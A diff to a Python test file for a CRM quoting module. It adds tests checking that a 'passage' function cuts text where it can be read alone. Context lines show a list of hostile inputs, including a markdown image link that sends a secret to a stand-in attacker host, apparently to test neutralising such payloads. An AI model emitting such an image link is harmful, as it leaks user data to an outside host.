@@ -1,7 +1,7 @@
 import pytest
 from markdown_it import MarkdownIt
 
-from crm.quoting import excerpt, folded, neutral, plain
+from crm.quoting import excerpt, folded, neutral, passage, plain
 
 HOSTILE = [
     "![x](http://evil.example/?q=secret)",
@@ -47,3 +47,17 @@ def test_an_excerpt_is_literal_and_ends_after_a_word() -> None:
     text = "one two three four"
     assert excerpt(text, 11) == "one two"
     assert excerpt(text, 100) == text
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("We load at six. The gate opens at five and the crew is there.", "We load at six."),
+        ("On 12. November we load at six, because the ferry is early then.", "On 12. November we load at six"),
+        ("Ask J. Weber about the ferry (he knows the harbour best of us).", "Ask J. Weber about the ferry"),
+        ("Ask about the ferry and the harbour that is next to it", "Ask about the ferry and the"),
+        ("Short.", "Short."),
+    ],
+)
+def test_a_passage_ends_where_it_can_be_read_alone(text: str, shown: str) -> None:
+    assert passage(text, 35) == shown
